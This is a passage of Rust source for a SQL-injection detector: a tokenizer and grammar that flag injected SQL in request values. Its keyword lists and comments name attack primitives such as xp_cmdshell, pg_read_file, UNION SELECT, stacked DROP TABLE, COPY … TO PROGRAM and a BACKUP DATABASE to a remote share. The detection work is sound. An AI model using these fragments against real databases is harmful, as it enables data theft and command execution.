//! SQL injection: a libinjection-style tokenizer and a small grammar of what injected SQL has to
//! look like, instead of a list of known payloads.
//!
//! The value is tokenized three times at most: as if it were pasted into SQL as a bare value,
//! inside a single-quoted string, and inside a double-quoted one. In a quoted context the first
//! quote *breaks out* of the string; what follows the break decides (`' OR 1=1`, `'--`,
//! `'; DROP TABLE`, `' UNION SELECT`). Independently of context: `UNION [ALL] SELECT`, stacked
//! statements after `;`, a value followed by a boolean tautology or a time-based function, a
//! statement at the start, and catalog or system objects (`information_schema`,
//! `xp_cmdshell`). Comments (`/**/`, `--`, `#`) are insignificant between tokens, MySQL
//! executable comments (`/*!50000UNION*/`) are read as code, and keywords are case-folded.
//! Prose keeps passing because the grammar asks for SQL structure, not SQL words.

use super::subject::{class, find, gate, is_word, unsplit, Hit, Needs, Subject, Tables};

/// Words that make a value without SQL punctuation worth tokenizing.
const PROSE_GATE: &[&str] = &[
    "union",
    "select",
    "order",
    "group",
    "having",
    "drop",
    "insert",
    "delete",
    "update",
    "exec",
    "waitfor",
    "shutdown",
    "declare",
    "truncate",
    "alter",
    "create",
    "procedure",
    "limit",
    "into",
    "information_schema",
    "sleep",
    "benchmark",
];

/// Word operators of a condition, which let a number carry one with no SQL punctuation
/// (`1 and 1 between 0 and 2`, `1 and null is null`, `1 or 1 rlike 1`, `1 and not false`).
const INFIX: &[&str] = &[
    " between ",
    " is null",
    " is not null",
    " like ",
    " rlike ",
    " regexp ",
    " and true",
    " and false",
    " not true",
    " not false",
];

/// System catalogs and objects whose bare name, with no SQL punctuation around it, is a probe
/// of the database behind the API.
const CATALOG: &[&str] = &[
    "information_schema",
    "pg_catalog",
    "pg_shadow",
    "sysobjects",
    "syscolumns",
    "sqlite_master",
    "msysobjects",
    "sysdatabases",
    "mysql.user",
    "mysql.db",
    // Packages and providers only an attack calls from a web request (with
    // [`MSSQL_PROCEDURES`]): linked-server providers, Oracle's network and pipe packages,
    // PostgreSQL's file readers.
    "msdasql",
    "sqloledb",
    "openrowset",
    "opendatasource",
    "utl_http",
    "utl_inaddr",
    "dbms_pipe",
    "dbms_xmlgen",
    "pg_read_file",
    "pg_ls_dir",
];

/// MSSQL's extended procedures by name (`xp_points` is a game's experience), its OLE and
/// dynamic-SQL ones by prefix: names (and name prefixes) only an attack calls from a web
/// request. Gate needles with [`CATALOG`], and dangerous tokens. Each opens `xp_` or `sp_`
/// (`classify` counts on it; a test holds the list to it).
const MSSQL_PROCEDURES: &[&str] = &[
    "xp_cmdshell",
    "xp_reg",
    "xp_dirtree",
    "xp_subdirs",
    "xp_fileexist",
    "xp_servicecontrol",
    "xp_availablemedia",
    "xp_terminate_process",
    "xp_ntsec_enumdomains",
    "xp_loginconfig",
    "sp_oa",
    "sp_exec",
];

/// Functions only SQL has (or whose call opening a value only SQL explains): a value that opens
/// with one of them called is a probe even without a complete expression (`database(`).
const SQL_FUNCTIONS: &[&[u8]] = &[
    b"database",
    b"db_name",
    b"schema_name",
    b"user_name",
    b"host_name",
    b"current_user",
    b"system_user",
    b"session_user",
    b"concat",
    b"concat_ws",
    b"group_concat",
    b"extractvalue",
    b"updatexml",
    b"make_set",
    b"ifnull",
    b"isnull",
    b"nullif",
    b"coalesce",
    b"unhex",
    b"uncompress",
    b"xmltype",
    b"sysdate",
    b"datalength",
    b"string_agg",
    b"char_length",
    b"substring",
    b"json_extract",
    b"json_build_object",
    b"jsonb_pretty",
    b"lo_import",
    b"lo_export",
    b"lo_get",
    b"pg_read_file",
    b"pg_ls_dir",
    b"benchmark",
    b"pg_sleep",
    b"load_file",
    b"current_database",
    b"current_setting",
    b"current_schema",
    b"sqlite_version",
    b"pg_backend_pid",
];

/// String, hashing and numeric functions of SQL dialects, some of them also words: a value
/// that opens with one called with no space before the parenthesis (`substr(`, `md5(`,
/// `cos(`) is a probe; "Hex (six-sided) nuts" is not.
const SQL_CALLS: &[&[u8]] = &[
    b"substr",
    b"mid",
    b"ascii",
    b"ord",
    b"chr",
    b"nchar",
    b"hex",
    b"oct",
    b"bin",
    b"conv",
    b"md5",
    b"sha1",
    b"sha2",
    b"crc32",
    b"compress",
    b"aes_encrypt",
    b"aes_decrypt",
    b"des_encrypt",
    b"rand",
    b"instr",
    b"locate",
    b"lpad",
    b"rpad",
    b"ltrim",
    b"rtrim",
    b"lcase",
    b"ucase",
    b"soundex",
    b"strcmp",
    b"substring_index",
    b"find_in_set",
    b"export_set",
    b"bit_length",
    b"octet_length",
    b"weight_string",
    b"to_char",
    b"to_number",
    b"abs",
    b"acos",
    b"asin",
    b"atan",
    b"atan2",
    b"cos",
    b"cot",
    b"sin",
    b"tan",
    b"sqrt",
    b"pow",
    b"power",
    b"ceil",
    b"ceiling",
    b"floor",
    b"exp",
    b"ln",
    b"log10",
    b"log2",
    b"degrees",
    b"radians",
    b"row_count",
    b"found_rows",
    b"last_insert_id",
    b"connection_id",
    b"unix_timestamp",
    b"from_unixtime",
    b"date_format",
    b"str_to_date",
];

/// Type names a PostgreSQL `::` cast converts to (error-based injection casts text to numbers).
const SQL_TYPES: &[&[u8]] = &[
    b"int",
    b"int4",
    b"int8",
    b"integer",
    b"bigint",
    b"smallint",
    b"numeric",
    b"text",
    b"varchar",
    b"json",
    b"jsonb",
    b"bool",
    b"boolean",
    b"regclass",
    b"oid",
    b"bytea",
];

/// The PostgreSQL cast operator.
const CAST: &str = "::";

const PUNCT: u32 = class::QUOTE
    | class::SEMI
    | class::PAREN
    | class::EQ
    | class::ANGLE
    | class::PIPE
    | class::AMP
    | class::HASH
    | class::STAR
    | class::AT
    | class::BACKTICK;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kw {
    Union,
    Select,
    From,
    Where,
    Stmt,
    TimeFunc,
    Danger,
    Func,
    Clause,
    By,
    Into,
    Value,
    Table,
    Exists,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum K {
    Str { closed: bool },
    Num,
    Word,
    Kw(Kw),
    Op,
    Logic,
    Comment,
    Semi,
    LParen,
    RParen,
    Comma,
    Var,
    Other,
}

#[derive(Debug, Clone, Copy)]
struct Tok {
    k: K,
    s: usize,
    e: usize,
}

fn classify(w: &[u8]) -> K {
    // Words are short: a plain scan beats `memchr`'s call and set-up, paid per token.
    let dot = w.iter().position(|&c| c == b'.');
    let head = match dot {
        Some(0) | None => w,
        Some(i) => &w[..i],
    };
    // The last part of a qualified name (`master..xp_cmdshell`, `dbo.sp_oacreate`).
    let tail = dot.map_or(w, |i| {
        let last = w[i..].iter().rposition(|&c| c == b'.').map_or(i, |j| i + j);
        &w[last + 1..]
    });
    // Every procedure is an `xp_` or `sp_` one: a word's third byte rules most out.
    if tail.get(1..3) == Some(b"p_")
        && MSSQL_PROCEDURES
            .iter()
            .any(|p| tail.starts_with(p.as_bytes()))
    {
        return K::Kw(Kw::Danger);
    }
    K::Kw(match head {
        b"union" => Kw::Union,
        b"select" => Kw::Select,
        b"from" => Kw::From,
        b"where" => Kw::Where,
        b"and" | b"or" | b"xor" | b"not" => return K::Logic,
        b"like" | b"rlike" | b"regexp" | b"between" | b"in" | b"is" | b"sounds" | b"div"
        | b"mod" | b"collate" | b"escape" => return K::Op,
        b"insert" | b"update" | b"delete" | b"drop" | b"exec" | b"execute" | b"declare"
        | b"create" | b"alter" | b"truncate" | b"shutdown" | b"grant" | b"revoke" | b"call"
        | b"backup" | b"restore" | b"copy" => Kw::Stmt,
        b"sleep" | b"benchmark" | b"pg_sleep" | b"waitfor" | b"dbms_lock" | b"user_lock"
        | b"randomblob" => {
            Kw::TimeFunc
        }
        b"information_schema"
        | b"sysobjects"
        | b"syscolumns"
        | b"sysdatabases"
        | b"sysusers"
        | b"pg_shadow"
        | b"pg_user"
        | b"pg_catalog"
        | b"sqlite_master"
        | b"sqlite_schema"
        | b"msysobjects"
        | b"msysaccessobjects"
        | b"load_file"
        | b"outfile"
        | b"dumpfile"
        | b"utl_http"
        | b"utl_inaddr"
        | b"dbms_pipe"
        | b"dbms_xmlgen"
        | b"all_tables"
        | b"user_tables"
        | b"mysql"
        | b"master"
        | b"sys"
        | b"openrowset"
        | b"opendatasource"
        | b"lo_import"
        | b"lo_export"
        | b"pg_read_file"
        | b"pg_ls_dir"
        | b"msdasql"
        | b"sqloledb" => {
            if head == b"mysql" || head == b"master" || head == b"sys" {
                // Only as a qualified catalog name (`mysql.user`, `master..sysdatabases`,
                // `sys.objects`): `sys.version` or `master.zip` in prose are not SQL.
                let rest = w.get(head.len() + 1..).unwrap_or_default();
                if !catalog_member(head, rest) {
                    return K::Word;
                }
            }
            Kw::Danger
        }
        b"char" | b"chr" | b"nchar" | b"concat" | b"concat_ws" | b"substring" | b"substr"
        | b"mid" | b"ascii" | b"ord" | b"hex" | b"unhex" | b"length" | b"version" | b"database"
        | b"user" | b"current_user" | b"system_user" | b"session_user" | b"schema" | b"count"
        | b"cast" | b"convert" | b"if" | b"iif" | b"ifnull" | b"isnull" | b"nullif"
        | b"coalesce" | b"extractvalue" | b"updatexml" | b"group_concat" | b"md5" | b"sha1"
        | b"rand" | b"floor" | b"exp" | b"elt" | b"make_set" | b"len" | b"datalength"
        | b"db_name" | b"user_name" | b"host_name" | b"lower" | b"upper" | b"reverse"
        | b"string_agg" | b"xmltype" | b"instr" | b"locate" | b"position" | b"bin" | b"conv"
        | b"pi" | b"cos" | b"sin" | b"tan" | b"atan" | b"abs" | b"ceil" | b"ceiling" | b"sqrt"
        | b"power" | b"to_char" | b"to_number" | b"char_length" | b"ltrim" | b"rtrim"
        | b"sysdate" | b"crc32" | b"soundex" | b"lpad" | b"rpad" | b"binary" | b"schema_name"
        | b"uncompress" | b"json_extract" | b"json_build_object" | b"jsonb_pretty" | b"lo_get"
        // DynamoDB PartiQL, the database of many functions.
        | b"begins_with" | b"attribute_exists" | b"attribute_not_exists" | b"attribute_type"
        | b"contains"
        // SQLite and PostgreSQL functions of blind probes.
        | b"zeroblob" | b"glob" | b"query_to_xml" => {
            Kw::Func
        }
        b"order" | b"group" | b"having" | b"limit" | b"procedure" | b"offset" => Kw::Clause,
        b"by" => Kw::By,
        b"into" => Kw::Into,
        // (PartiQL's `MISSING` is its other null.)
        b"true" | b"false" | b"null" | b"missing" => Kw::Value,
        b"table" | b"database_" | b"tables" | b"view" | b"index" | b"trigger" | b"login" => {
            Kw::Table
        }
        b"exists" => Kw::Exists,
        _ => return K::Word,
    })
}

/// Whether the `@@` at `at` ends a versioned symbol's name (`memcpy@@GLIBC_2.14`): a word
/// glued before it that SQL does not know (`1 or@@version` is SQL's).
fn versioned_symbol(b: &[u8], at: usize) -> bool {
    let before = &b[..at];
    let glued = before.len()
        - before
            .iter()
            .rev()
            .take(16)
            .take_while(|c| is_word(**c))
            .count();
    let word = &before[glued..];
    !word.is_empty()
        && classify(word) == K::Word
        && !matches!(word, b"case" | b"when" | b"then" | b"else" | b"distinct")
}

/// Whether `rest` (after `schema.`) names a system catalog object of that schema.
fn catalog_member(schema: &[u8], rest: &[u8]) -> bool {
    let known: &[&[u8]] = match schema {
        b"mysql" => &[b"user", b"db", b"proc", b"func", b"tables_priv"],
        b"master" => &[b".", b"dbo", b"sys"],
        _ => &[
            b"objects",
            b"tables",
            b"columns",
            b"databases",
            b"schemas",
            b"sql_logins",
            b"syslogins",
            b"sysobjects",
            b"server_principals",
            b"database_principals",
            b"all_",
            b"dba_",
            b"user$",
            b"fn_",
        ],
    };
    known.iter().any(|k| rest.starts_with(k))
}

/// Tables every database of a dialect has, which a probe reads and an application's own
/// query text rarely names: Oracle's `dual`, `v$…` views and `dba_`/`all_` dictionary,
/// PostgreSQL's `pg_…` catalogs.
fn system_table(w: &[u8]) -> bool {
    w == b"dual"
        || [&b"v$"[..], b"gv$", b"dba_", b"all_", b"pg_"]
            .iter()
            .any(|p| w.starts_with(p))
}

/// Tokenizes `b` (lowercased) into `toks`. With `quote`, the input starts inside a string
/// opened by that quote; `None` when the string never closes (no break-out in that context).
fn tokenize(b: &[u8], quote: Option<u8>, toks: &mut Vec<Tok>) -> Option<()> {
    toks.clear();
    let mut i = 0;
    let mut odbc = 0usize;
    if let Some(q) = quote {
        let end = string_end(b, 0, q)?;
        toks.push(Tok {
            k: K::Str { closed: true },
            s: 0,
            e: end + 1,
        });
        i = end + 1;
    }
    while i < b.len() {
        let c = b[i];
        // Every control character is a blank to MSSQL (sqlmap's `space2mssqlblank`), and a
        // NUL or vertical tab to others.
        if c <= b' ' {
            i += 1;
            continue;
        }
        let s = i;
        let k = match c {
            b'\'' | b'"' => match string_end(b, i + 1, c) {
                Some(e) => {
                    i = e + 1;
                    K::Str { closed: true }
                }
                None => {
                    i = b.len();
                    K::Str { closed: false }
                }
            },
            b'`' => {
                i = memchr::memchr(b'`', &b[i + 1..]).map_or(b.len(), |e| i + e + 2);
                K::Word
            }
            b'0'..=b'9' => {
                if b.get(i + 1) == Some(&b'x') || b.get(i + 1) == Some(&b'b') {
                    i += 2;
                    while i < b.len() && b[i].is_ascii_hexdigit() {
                        i += 1;
                    }
                } else {
                    i = number_end(b, i);
                    // MySQL reads `1.e` before `(`, `)` or `,` as nothing: a filler that
                    // splits the words a filter looks for (`1.e(ascii 1.e(substring(`).
                    if b[i - 1] == b'.'
                        && b.get(i) == Some(&b'e')
                        && matches!(b.get(i + 1), Some(b'(' | b')' | b','))
                    {
                        i += 1;
                        continue;
                    }
                }
                K::Num
            }
            // `.1`, `.1e0`: a number ends where its digits do (`.1union` is `.1 union`).
            b'.' if b.get(i + 1).is_some_and(u8::is_ascii_digit) => {
                i = number_end(b, i + 1);
                K::Num
            }
            // MySQL's `\N` is NULL, wherever a token may start (`\Nunion select`).
            b'\\' if b.get(i + 1) == Some(&b'n') && (i == 0 || !is_word(b[i - 1])) => {
                i += 2;
                K::Kw(Kw::Value)
            }
            // MSSQL's bracketed identifier `[name]`.
            b'[' if b
                .get(i + 1)
                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') =>
            {
                let close = b[i + 1..]
                    .iter()
                    .position(|c| !is_word(*c))
                    .filter(|&e| b[i + 1 + e] == b']');
                match close {
                    Some(e) => {
                        i += e + 2;
                        K::Word
                    }
                    None => {
                        i += 1;
                        K::Other
                    }
                }
            }
            b'-' if b.get(i + 1) == Some(&b'-')
                && !b.get(i + 2).is_some_and(u8::is_ascii_alphanumeric) =>
            {
                i = line_end(b, i);
                K::Comment
            }
            // JSON operators (`@>`, `<@`, `#>`, `#>>`) compare like `=`.
            b'@' | b'#' if b.get(i + 1) == Some(&b'>') => {
                i += 2;
                while i < b.len() && b[i] == b'>' {
                    i += 1;
                }
                K::Op
            }
            b'<' if b.get(i + 1) == Some(&b'@') => {
                i += 2;
                K::Op
            }
            // PostgreSQL's key-existence operators `?`, `?|`, `?&` between two values.
            b'?' if i > 0
                && b[i - 1] == b' '
                && matches!(b.get(i + 1), Some(b' ' | b'|' | b'&')) =>
            {
                i += 1 + usize::from(matches!(b.get(i + 1), Some(b'|' | b'&')));
                K::Op
            }
            b'#' => {
                i = line_end(b, i);
                K::Comment
            }
            b'/' if b.get(i + 1) == Some(&b'*') => {
                if b.get(i + 2) == Some(&b'!') {
                    // MySQL executable comment: its content is code.
                    i += 3;
                    while i < b.len() && b[i].is_ascii_digit() {
                        i += 1;
                    }
                    continue;
                }
                i = find(&b[i + 2..], b"*/").map_or(b.len(), |e| i + 2 + e + 2);
                K::Comment
            }
            b'*' if b.get(i + 1) == Some(&b'/') => {
                i += 2;
                continue;
            }
            // ODBC escapes (`{fn ascii('a')}`, `{call sp_x}`) wrap a call the driver unwraps.
            b'{' => match odbc_escape(b, i + 1) {
                Some(call) => {
                    i = call;
                    odbc += 1;
                    continue;
                }
                None => {
                    i += 1;
                    K::Other
                }
            },
            b'}' if odbc > 0 => {
                odbc -= 1;
                i += 1;
                continue;
            }
            b';' => {
                i += 1;
                K::Semi
            }
            b'(' => {
                i += 1;
                K::LParen
            }
            b')' => {
                i += 1;
                K::RParen
            }
            b',' => {
                i += 1;
                K::Comma
            }
            b'@' => {
                while i < b.len() && b[i] == b'@' {
                    i += 1;
                }
                let name = i;
                while i < b.len() && (is_word(b[i]) || b[i] == b'$') {
                    i += 1;
                }
                // A system variable (`@@version`); a bare `@@` names nothing (a diff's
                // hunk header, `@@ -1 +1 @@`), a name closed by `@@` is a template's
                // placeholder (`@@CONTACT_ADDRESS@@`). No system variable of MySQL or SQL
                // Server is named in fewer than four characters (`@@spid`, `@@dbts`); `@@Rx`
                // is a generated password's chance.
                if name - s >= 2
                    && i >= name + 4
                    && !b[i..].starts_with(b"@@")
                    && !versioned_symbol(b, s)
                {
                    K::Kw(Kw::Danger)
                } else {
                    K::Var
                }
            }
            b'|' | b'&' if b.get(i + 1) == Some(&c) => {
                i += 2;
                K::Logic
            }
            // PostgreSQL cast `::type`: insignificant to the grammar, like a comment.
            b':' if b.get(i + 1) == Some(&b':')
                && b.get(i + 2).is_some_and(|c| c.is_ascii_alphabetic()) =>
            {
                i += 2;
                while i < b.len() && (is_word(b[i]) || b[i] == b'[' || b[i] == b']') {
                    i += 1;
                }
                K::Comment
            }
            b'=' | b'<' | b'>' | b'!' | b'+' | b'-' | b'*' | b'/' | b'%' | b'^' | b'~' | b'|'
            | b'&' | b':' => {
                i += 1;
                while i < b.len() && matches!(b[i], b'=' | b'<' | b'>') {
                    i += 1;
                }
                K::Op
            }
            c if c.is_ascii_alphabetic() || c == b'_' || c == b'$' || c >= 0x80 => {
                while i < b.len() && (is_word(b[i]) || b[i] == b'$' || b[i] == b'.') {
                    i += 1;
                }
                // N'..', X'..', B'..', E'..' string prefixes and MySQL's character set
                // introducers (`_binary'..'`, `_utf8mb4'..'`).
                let prefix = (i - s == 1 && matches!(c, b'n' | b'x' | b'b' | b'e')) || c == b'_';
                if prefix && matches!(b.get(i), Some(b'\'')) {
                    continue;
                }
                classify(&b[s..i])
            }
            _ => {
                i += 1;
                K::Other
            }
        };
        toks.push(Tok { k, s, e: i });
    }
    Some(())
}

/// Where the call inside an ODBC escape opened before `i` starts: past `fn` in `{fn …}`, at
/// `call` in `{call …}` (a statement word of its own).
fn odbc_escape(b: &[u8], i: usize) -> Option<usize> {
    let j = i + b[i..].iter().take_while(|c| **c == b' ').count();
    let rest = &b[j..];
    if rest.starts_with(b"fn") && matches!(rest.get(2), Some(b' ')) {
        Some(j + 2)
    } else if rest.starts_with(b"call ") {
        Some(j)
    } else {
        None
    }
}

/// Where a number whose digits start at `i` ends: digits and dots, then an exponent.
fn number_end(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && (b[i].is_ascii_digit() || b[i] == b'.') {
        i += 1;
    }
    if b.get(i) == Some(&b'e') && b.get(i + 1).is_some_and(u8::is_ascii_digit) {
        i += 1;
        while i < b.len() && b[i].is_ascii_digit() {
            i += 1;
        }
    }
    i
}

/// Index of the quote closing a string whose content starts at `from` (`''` and `\'` escape).
fn string_end(b: &[u8], from: usize, q: u8) -> Option<usize> {
    let mut i = from;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            c if c == q => {
                if b.get(i + 1) == Some(&q) {
                    i += 2;
                } else {
                    return Some(i);
                }
            }
            _ => i += 1,
        }
    }
    None
}

fn line_end(b: &[u8], i: usize) -> usize {
    memchr::memchr2(b'\n', b'\r', &b[i..]).map_or(b.len(), |e| i + e)
}

struct Grammar<'t> {
    t: &'t [Tok],
    b: &'t [u8],
    paranoia: u8,
}

impl Grammar<'_> {
    fn k(&self, i: usize) -> Option<K> {
        self.t.get(i).map(|t| t.k)
    }

    /// The next token at or after `i` that is not a comment.
    fn sig(&self, mut i: usize) -> usize {
        while self.k(i) == Some(K::Comment) {
            i += 1;
        }
        i
    }

    fn word(&self, i: usize) -> &[u8] {
        self.t.get(i).map_or(&[], |t| &self.b[t.s..t.e])
    }

    fn is_call(&self, i: usize) -> bool {
        matches!(
            self.k(i),
            Some(K::Word | K::Kw(Kw::Func | Kw::TimeFunc | Kw::Danger))
        ) && self.k(self.sig(i + 1)) == Some(K::LParen)
    }

    /// A comment at `i` that cuts the rest of the query: `--`, `/*`, or a `#` with no words
    /// after it on its line (`6 #2` numbers an item).
    fn cutting_comment(&self, i: usize) -> bool {
        self.k(i) == Some(K::Comment) && {
            let w = self.word(i);
            w.starts_with(b"--")
                || w.starts_with(b"/*")
                || (w.starts_with(b"#") && !w.iter().any(u8::is_ascii_alphanumeric))
        }
    }

    /// A cutting comment at `i` with no words in it (`--`, `-- -`, `/*`, `#`), unlike an
    /// English dash ("limit 3 -- per user").
    fn bare_cut(&self, i: usize) -> bool {
        self.cutting_comment(i) && !self.word(i).iter().any(u8::is_ascii_alphanumeric)
    }

    /// A statement that reads the schema (`SHOW TABLES`, `DESC users`) at `i`, after a `;`:
    /// ended there, or with `terminated` by a `;` or comment of its own ("…; describe it"
    /// ends prose too).
    fn schema_statement(&self, i: usize, terminated: bool) -> bool {
        let object = self.sig(i + 1);
        let named = match self.word(i) {
            b"show" => matches!(
                self.word(object),
                b"tables"
                    | b"databases"
                    | b"schemas"
                    | b"grants"
                    | b"variables"
                    | b"columns"
                    | b"processlist"
                    | b"users"
            ),
            b"desc" | b"describe" => matches!(self.k(object), Some(K::Word | K::Kw(_))),
            _ => false,
        };
        // (The token right after the object: `sig` would step over the comment.)
        named
            && if terminated {
                matches!(self.k(object + 1), Some(K::Comment | K::Semi))
            } else {
                self.end_or_comment(self.sig(object + 1))
            }
    }

    fn end_or_comment(&self, i: usize) -> bool {
        matches!(self.k(i), None | Some(K::Comment | K::Semi))
    }

    /// A literal, variable or parenthesis at `i` that ends the value or its group.
    fn closes(&self, i: usize) -> bool {
        matches!(
            self.k(i),
            Some(K::Num | K::Str { .. } | K::Var | K::LParen | K::Kw(Kw::Value))
        ) && {
            let n = self.sig(i + 1);
            self.end_or_comment(n) || matches!(self.k(n), Some(K::RParen | K::Op | K::LParen))
        }
    }

    /// The token after the parentheses that close at `i` (`1))--`: the comment).
    fn past_closing(&self, mut i: usize) -> usize {
        while self.k(self.sig(i)) == Some(K::RParen) {
            i = self.sig(i) + 1;
        }
        i
    }

    /// A SQL statement (or sub-select) starts at `i`.
    fn statement_at(&self, i: usize, strict: bool) -> bool {
        // Iterate over opening parentheses (no recursion: `((((…` is attacker-sized).
        let mut i = self.sig(i);
        while self.k(i) == Some(K::LParen) {
            i = self.sig(i + 1);
        }
        let mut n = self.sig(i + 1);
        match self.k(i) {
            Some(K::Kw(Kw::Select)) => {
                // A signed first column (`SELECT -1,2 FROM`) reads as the column.
                if self.k(n) == Some(K::Op) && matches!(self.word(n), b"-" | b"+" | b"~") {
                    let operand = self.sig(n + 1);
                    if matches!(self.k(operand), Some(K::Num | K::Str { .. }))
                        || self.is_call(operand)
                    {
                        n = operand;
                    }
                }
                let after = self.sig(n + 1);
                match self.k(n) {
                    Some(K::Kw(Kw::Danger) | K::Var) => true,
                    // `SELECT 1,2`, `SELECT 'a' FROM`, `SELECT @@x--`; not "select 2 items".
                    Some(K::Num | K::Kw(Kw::Value) | K::Str { .. }) => {
                        self.end_or_comment(after)
                            || (self.k(after) == Some(K::Logic) && self.closes(self.sig(after + 1)))
                            // `SELECT 'a'||(…)`: a string concatenated to an expression.
                            || (matches!(self.k(n), Some(K::Str { closed: true }))
                                && self.word(after) == b"||"
                                && (self.is_call(self.sig(after + 1))
                                    || matches!(
                                        self.k(self.sig(after + 1)),
                                        Some(K::LParen | K::Str { .. })
                                    )))
                            || matches!(
                                self.k(after),
                                Some(
                                    K::Comma
                                        | K::Op
                                        | K::RParen
                                        | K::Kw(Kw::From | Kw::Union | Kw::Into | Kw::Where)
                                )
                            )
                    }
                    // `SELECT * FROM`, not "select * is bad practice".
                    Some(K::Op) => {
                        self.word(n) == b"*"
                            && (self.end_or_comment(after)
                                || matches!(
                                    self.k(after),
                                    Some(K::Comma | K::Kw(Kw::From | Kw::Into))
                                ))
                    }
                    Some(K::LParen) => true,
                    // `SELECT CASE WHEN 1=1 THEN …`.
                    Some(K::Word) if self.case_when(n) => true,
                    // `SELECT sleep(5)`, `SELECT count(*) FROM`; not "select count(*) is slow".
                    Some(K::Word | K::Kw(_)) if self.is_call(n) => {
                        let after = self.sig(self.matching(self.sig(n + 1)) + 1);
                        // `IS` is an operator that prose uses.
                        let op = self.k(after) == Some(K::Op) && self.word(after) != b"is";
                        !strict
                            || self.end_or_comment(after)
                            || op
                            || self.is_call(after)
                            || self.word(after) == b"as"
                            || matches!(
                                self.k(after),
                                Some(
                                    K::Comma
                                        | K::Logic
                                        | K::RParen
                                        | K::Kw(
                                            Kw::From
                                                | Kw::Into
                                                | Kw::Where
                                                | Kw::Union
                                                | Kw::Clause
                                        )
                                )
                            )
                    }
                    // `SELECT current_user;`: a function SQL calls without parentheses.
                    Some(K::Kw(Kw::Func))
                        if matches!(
                            self.word(n),
                            b"current_user" | b"session_user" | b"system_user"
                        ) =>
                    {
                        self.end_or_comment(after)
                            || matches!(self.k(after), Some(K::Comma | K::Kw(Kw::From)))
                    }
                    // MSSQL's `SELECT TOP 1 name FROM`; "select top 3" alone is a menu label.
                    Some(K::Word) if self.word(n) == b"top" && self.k(after) == Some(K::Num) => {
                        let item = self.sig(after + 1);
                        let then = self.sig(item + 1);
                        !strict
                            || (matches!(self.k(item), Some(K::Word | K::Op))
                                && matches!(self.k(then), Some(K::Comma | K::Kw(Kw::From))))
                    }
                    Some(K::Word | K::Kw(Kw::Func)) => {
                        matches!(self.k(after), Some(K::Comma))
                            || (self.k(after) == Some(K::Kw(Kw::From))
                                && (!strict || {
                                    let tail = self.sig(self.sig(after + 1) + 1);
                                    self.end_or_comment(tail)
                                        || matches!(
                                            self.k(tail),
                                            Some(
                                                K::Kw(Kw::Where | Kw::Clause | Kw::Union)
                                                    | K::RParen
                                            )
                                        )
                                }))
                    }
                    _ => false,
                }
            }
            Some(K::Kw(Kw::Stmt)) => {
                let w = self.word(i);
                // MySQL's modifiers between the verb and the rest: `DELETE LOW_PRIORITY QUICK
                // IGNORE FROM`, `INSERT IGNORE INTO`, `UPDATE LOW_PRIORITY t SET`.
                if matches!(w, b"delete" | b"insert" | b"update") {
                    while matches!(
                        self.word(n),
                        b"low_priority" | b"high_priority" | b"delayed" | b"quick" | b"ignore"
                    ) {
                        n = self.sig(n + 1);
                    }
                }
                let next = self.word(n);
                match w {
                    b"insert" => {
                        self.k(n) == Some(K::Kw(Kw::Into))
                            && self.object_at(n + 1, &[b"values", b"value", b"set", b"default"])
                    }
                    b"delete" => {
                        self.k(n) == Some(K::Kw(Kw::From))
                            && self.object_at(n + 1, &[b"using", b"returning"])
                    }
                    b"update" => self.k(n) == Some(K::Word) && self.word(self.sig(n + 1)) == b"set",
                    b"drop" | b"create" | b"alter" | b"truncate" => {
                        (matches!(self.k(n), Some(K::Kw(Kw::Table)))
                            || matches!(
                                next,
                                b"database" | b"schema" | b"procedure" | b"function" | b"user"
                            ))
                            && self.object_at(
                                n + 1,
                                &[
                                    b"as",
                                    b"cascade",
                                    b"purge",
                                    b"restrict",
                                    b"add",
                                    b"modify",
                                    b"rename",
                                    b"owner",
                                    b"set",
                                    b"identified",
                                    b"with",
                                    b"on",
                                    b"returns",
                                    b"soname",
                                    b"before",
                                    b"after",
                                    b"instead",
                                    b"engine",
                                    b"change",
                                    b"convert",
                                    b"character",
                                    b"charset",
                                    b"default",
                                    b"comment",
                                    b"to",
                                    b"column",
                                    b"partition",
                                    b"disable",
                                    b"enable",
                                    b"auto_increment",
                                ],
                            )
                    }
                    b"exec" | b"execute" | b"call" => {
                        matches!(
                            self.k(n),
                            Some(K::Kw(Kw::Danger) | K::LParen | K::Var | K::Str { .. })
                        ) || next.starts_with(b"sp_")
                            || next == b"immediate"
                            || next.starts_with(b"master")
                    }
                    b"declare" => self.k(n) == Some(K::Var),
                    b"shutdown" => self.end_or_comment(n) || next == b"with",
                    b"grant" | b"revoke" => matches!(
                        next,
                        b"all"
                            | b"select"
                            | b"insert"
                            | b"update"
                            | b"delete"
                            | b"connect"
                            | b"resource"
                            | b"dba"
                            | b"execute"
                    ),
                    // MSSQL `BACKUP DATABASE master TO DISK='\\host\share'`.
                    b"backup" | b"restore" => {
                        matches!(next, b"database" | b"log")
                            && self.k(self.sig(n + 1)) == Some(K::Word)
                    }
                    // PostgreSQL `COPY (SELECT …) TO PROGRAM`, `COPY t FROM '/etc/passwd'`.
                    b"copy" => {
                        let dir = self.sig(n + 1);
                        // (Only a SELECT inside: a nested `copy (copy (…` must not recurse.)
                        (self.k(n) == Some(K::LParen)
                            && self.k(self.sig(n + 1)) == Some(K::Kw(Kw::Select))
                            && self.statement_at(n, true))
                            || (self.k(n) == Some(K::Word)
                                && matches!(self.word(dir), b"from" | b"to")
                                && (matches!(self.k(self.sig(dir + 1)), Some(K::Str { .. }))
                                    || matches!(
                                        self.word(self.sig(dir + 1)),
                                        b"program" | b"stdout" | b"stdin"
                                    )))
                    }
                    _ => false,
                }
            }
            Some(K::Kw(Kw::TimeFunc)) => {
                // `sleep(5)`, `benchmark(1e7, md5(1))`; not "sleep(8 hours)".
                let arg = self.sig(n + 1);
                let prose = matches!(self.k(arg), Some(K::Num | K::Word))
                    && self.k(self.sig(arg + 1)) == Some(K::Word)
                    && self
                        .t
                        .get(arg)
                        .is_some_and(|t| self.b.get(t.e).is_some_and(u8::is_ascii_whitespace));
                self.word(i) == b"waitfor" && matches!(self.word(n), b"delay" | b"time")
                    || (self.k(n) == Some(K::LParen) && !prose)
            }
            Some(K::Kw(Kw::Union)) => self.union_select(i).is_some(),
            // MySQL's session variables and prepared statements: `SET @a=0x…`,
            // `PREPARE s FROM @a`.
            Some(K::Word) => match self.word(i) {
                b"set" => {
                    let eq = self.sig(n + 1);
                    self.k(n) == Some(K::Var)
